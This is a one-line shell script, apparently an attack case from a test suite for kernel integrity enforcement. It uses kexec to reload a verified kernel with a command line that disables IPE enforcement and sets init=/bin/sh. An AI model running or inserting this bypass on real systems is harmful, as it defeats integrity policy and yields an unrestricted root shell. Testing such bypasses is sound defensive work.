# shellcheck shell=sh
#
# kexec-command-line - load the verified kernel and initramfs with a command line of one's own
#
# SPDX-License-Identifier: MIT

/attack/kexec file /attack/vmlinuz /attack/initramfs 'rd.ipe=0 ipe.enforce=0 init=/bin/sh'
